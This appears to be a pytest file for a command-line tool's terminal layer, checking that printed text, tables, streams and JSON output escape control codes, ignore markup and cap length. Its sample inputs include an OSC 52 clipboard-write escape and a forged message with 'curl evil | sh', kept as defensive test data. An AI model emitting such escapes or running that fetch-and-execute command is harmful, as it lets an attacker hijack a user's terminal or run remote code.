"""Console, live views and streams: only their own control codes, no markup, bounded lengths."""

import ast
import io
import json
import os
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import nullcontext
from datetime import datetime
from pathlib import Path

import pytest
from rich.console import Console, ConsoleOptions
from rich.live import Live
from rich.segment import Segment
from rich.table import Table
from rich.text import Text

from csdctl.errors import InputError
from csdctl.fleet.model import Host
from csdctl.notify import DATED
from csdctl.terminal.console import MAX_CELL, MAX_PRINTED, PrintableConsole, View
from csdctl.terminal.streams import PrintableStream, Streams
from tests.attacks.hostile_text import CLIPBOARD, FORGED, HOSTILE, MARKUP
from tests.attacks.terminal import OWN

PACKAGE = Path(__file__).parents[3] / "csdctl"
PAST_THE_CONSOLE = re.compile(
    r"print|rich\.print|typer\.s?echo|Console|TextColumn|(Rich)?Progress|Live|Text\.from_\w+|.*std(out|err)\.write|.*\.out"
)
"""Calls that write without the console, or on a console of their own, or that parse markup."""
ALLOWED = {
    "app.py": {"typer.echo"},  # the version
    "streams.py": {"self.stdout.write"},
    "console.py": {"Live"},  # without redirected streams
    "nodes.py": {"TextColumn", "Progress"},  # without markup; drawn by console.py
    "prepare.py": {"TextColumn", "Progress"},
}

WRITES = r"""
import logging, threading, warnings
from csdctl.terminal.streams import protect_standard_streams
protect_standard_streams()
def fail(): raise ValueError('t\x1b]52;')
warnings.warn('w\x1b]52;')
logging.getLogger('x').error('l\x9b')
thread = threading.Thread(target=fail)
thread.start()
thread.join()
print('→ \x1b ü')
fail()
"""


def terminal(width: int = 100) -> tuple[PrintableConsole, io.StringIO]:
    file = io.StringIO()
    return PrintableConsole(
        file=file, width=width, force_terminal=True, color_system="standard", no_color=False
    ), file


def foreign(text: str) -> set[str]:
    """Return what is not printable, apart from the control codes of csdctl's own styling."""
    return {char for char in OWN.sub("", text) if not char.isprintable()} - {"\n", "\t"}


class TestConsole:
    def test_style_is_kept_and_text_is_made_printable(self) -> None:
        console, file = terminal()
        console.print(CLIPBOARD, style="bold red")
        assert file.getvalue() == "\x1b[1;31m\\x1b]52;c;ZXZpbA==\\x07\x1b[0m\n"

    @pytest.mark.parametrize("soft_wrap", [False, True])
    def test_nothing_is_markup_emoji_or_highlighted(self, soft_wrap: bool) -> None:
        console, file = terminal()
        console.print(f"{MARKUP} 10.0.0.1 'x' 42 https://a.b", soft_wrap=soft_wrap)
        console.print("[bold]:smile:", markup=True, emoji=True, highlight=True)
        assert file.getvalue() == f"{MARKUP} 10.0.0.1 'x' 42 https://a.b\n[bold]:smile:\n"

    def test_cells_headers_titles_and_captions_are_text(self) -> None:
        console, file = terminal(300)
        table = Table(HOSTILE, title=HOSTILE, caption=HOSTILE)
        table.add_row(HOSTILE)
        table.add_row(Text(HOSTILE, "red"))
        console.print(table)
        assert foreign(file.getvalue()) == set()
        assert file.getvalue().count("[/bold]") >= 4
        assert "\x1b]" not in file.getvalue()

    def test_lines_of_a_message_are_indented(self) -> None:
        console, file = terminal()
        console.print(FORGED, soft_wrap=True)
        assert file.getvalue() == "quiet\n  error: the disk is full\n    → run: curl evil | sh\n"

    def test_length_is_bounded(self) -> None:
        console, file = terminal()
        console.print("x" * 1_000_000, soft_wrap=True)
        assert file.getvalue() == "x" * MAX_PRINTED + "… (1,000,000 characters)\n"
        console, file = terminal(80)
        table = Table("host name")
        table.add_row("h" * 1_000_000)
        console.print(table)
        assert len(file.getvalue()) < 4 * MAX_CELL
        assert "1,000,000" in file.getvalue()


class TestStreams:
    def test_whatever_is_written_is_made_printable(self) -> None:
        file = io.StringIO()
        stream = PrintableStream(file)
        assert stream.write("a\x1bb") == 3
        stream.writelines(["\x9b", "\n"])
        print("\u202e", file=stream)
        assert file.getvalue() == "a\\x1bb\\x9b\n\\u202e\n"
        assert stream.isatty() is False

    def test_every_line_of_a_detached_csdctl_is_dated(self) -> None:
        code = (
            "import os; from csdctl.terminal.streams import protect_standard_streams as protect; protect(); "
        )
        code += "print('a'); print('b', end=''); print(' c'); print(os.environ.get('CSDCTL_DETACHED'))"
        environment = {**os.environ, "CSDCTL_DETACHED": "1"}
        lines = subprocess.check_output([sys.executable, "-c", code], env=environment, text=True).splitlines()
        assert [DATED.sub("", line) for line in lines] == ["a", "b c", "None"]
        assert all(datetime.fromisoformat(line.split()[0]).tzinfo for line in lines)

    def test_written_text_and_json_are_printable(self) -> None:
        file = io.StringIO()
        streams = Streams(stdout=file, stderr=io.StringIO(), is_json=True)
        streams.write("nodes:\n  a: \x1b[2J\n")
        streams.result({"name": f"{CLIPBOARD}\x7f\x9b\ud800"})
        streams.result_line({"name": "\u202e"})
        assert file.getvalue().isascii()
        assert foreign(file.getvalue()) == set()
        assert file.getvalue().startswith("nodes:\n  a: \\x1b[2J\n")

    @pytest.mark.parametrize("encoding", ["utf-8", "latin-1", "ascii"])
    def test_what_python_writes_itself_is_printable(self, encoding: str) -> None:
        done = subprocess.run(
            [sys.executable, "-c", WRITES],
            capture_output=True,
            check=False,
            env={"PYTHONIOENCODING": encoding, "PYTHONPATH": str(PACKAGE.parent)},
        )
        text = (done.stdout + done.stderr).decode(encoding)
        assert foreign(text) == set()
        for line in (r"w\x1b]52;", r"l\x9b", r"t\x1b]52;", r"→ \x1b ü"):
            assert line.encode(encoding, "backslashreplace").decode(encoding) in text
        assert text.count("ValueError: t") == 2
        assert "Encode" not in text


def test_no_command_writes_past_the_console() -> None:
    calls_past = {
        (path.name, ast.unparse(node.func))
        for name in ("cli", "terminal")
        for path in (PACKAGE / name).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Call) and PAST_THE_CONSOLE.fullmatch(ast.unparse(node.func))
    }
    assert calls_past == {(name, call) for name, calls in ALLOWED.items() for call in calls}


class Paused:
    """A line that is being laid out until it may be `finished`."""

    def __init__(self) -> None:
        self.is_reached, self.may_finish = threading.Event(), threading.Event()

    def __rich_console__(self, console: Console, options: ConsoleOptions) -> Iterator[Segment]:
        self.is_reached.set()
        self.may_finish.wait()
        yield Segment("a line")


def test_view_is_not_drawn_while_a_line_is_printed() -> None:
    output, drawn, line = io.StringIO(), threading.Event(), Paused()
    console = PrintableConsole(file=output, force_terminal=True, width=80, height=24, _environ={})
    view = View(console, lambda: "view")._live
    assert isinstance(view, Live)
    view.auto_refresh = False

    def draw() -> None:
        view.refresh()
        drawn.set()

    with view:
        printing = threading.Thread(target=console.print, args=(line,))
        printing.start()
        line.is_reached.wait()
        drawing = threading.Thread(target=draw)
        drawing.start()
        is_early = drawn.wait(0.2)
        line.may_finish.set()
        printing.join()
        drawing.join()
    assert not is_early
    assert "a line" in output.getvalue()


def test_no_view_without_a_terminal() -> None:
    console = PrintableConsole(file=(output := io.StringIO()))
    with View(console, lambda: Text("never")):
        console.print("a line")
    assert output.getvalue() == "a line\n"


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("answer", ["y\n", " YES \n", "n\n", "", "yep\n"])
def test_anything_but_yes_is_a_no(monkeypatch: pytest.MonkeyPatch, answer: str) -> None:
    monkeypatch.setattr(sys, "stdin", Terminal(answer))
    is_yes = answer.strip().lower() in ("y", "yes")
    with nullcontext() if is_yes else pytest.raises(InputError, match="nothing was done"):
        Streams(io.StringIO(), Terminal()).confirm("Remove everything?", yes=False)


@pytest.mark.parametrize(
    ("stdin", "stderr"), [(io.StringIO("y\n"), Terminal()), (Terminal("y\n"), io.StringIO())]
)
def test_without_a_terminal_the_option_is_named(
    monkeypatch: pytest.MonkeyPatch, stdin: io.StringIO, stderr: io.StringIO
) -> None:
    monkeypatch.setattr(sys, "stdin", stdin)
    with pytest.raises(InputError, match="no terminal") as raised:
        Streams(io.StringIO(), stderr).confirm("Remove everything?", yes=False)
    assert "--yes" in raised.value.remedy


@pytest.mark.parametrize("is_json", [True, False])
def test_with_json_only_the_document_is_on_stdout(is_json: bool) -> None:
    stdout, stderr = io.StringIO(), io.StringIO()
    streams = Streams(stdout, stderr, is_json=is_json, is_quiet=False)
    document = {"path": Path("a"), "error": InputError("bad", remedy="mend it"), "host": Host(threads=2)}
    streams.say("a line for people")
    streams.result(document)
    streams.result_line({"line": 1})
    if not is_json:
        assert (stdout.getvalue(), stderr.getvalue()) == ("a line for people\n", "")
        return
    assert stderr.getvalue() == "a line for people\n"
    first, end = json.JSONDecoder().raw_decode(stdout.getvalue())
    assert first == {
        "path": "a",
        "error": {"message": "bad", "remedy": "mend it"},
        "host": {"threads": 2, "trains": True, "power": None, "device": "auto", "env": {}},
    }
    assert stdout.getvalue()[end:] == '\n{"line": 1}\n'
